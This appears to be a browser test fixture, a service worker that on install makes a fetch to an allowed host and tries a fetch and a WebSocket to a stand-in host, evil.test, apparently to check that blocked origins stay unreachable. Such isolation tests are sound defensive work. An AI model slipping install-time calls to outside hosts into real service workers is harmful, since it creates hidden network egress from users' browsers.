// A service worker: tries evil.test while installing.
const P = self.location.port;
self.addEventListener('install', () => {
  fetch(`http://allowed.test:${P}/hit?k=ok-sw-fetch`).catch(() => {});
  fetch(`http://evil.test:${P}/hit?k=sw-fetch`).catch(() => {});
  try { new WebSocket(`ws://evil.test:${P}/ws?k=sw-ws`); } catch (e) {}
});
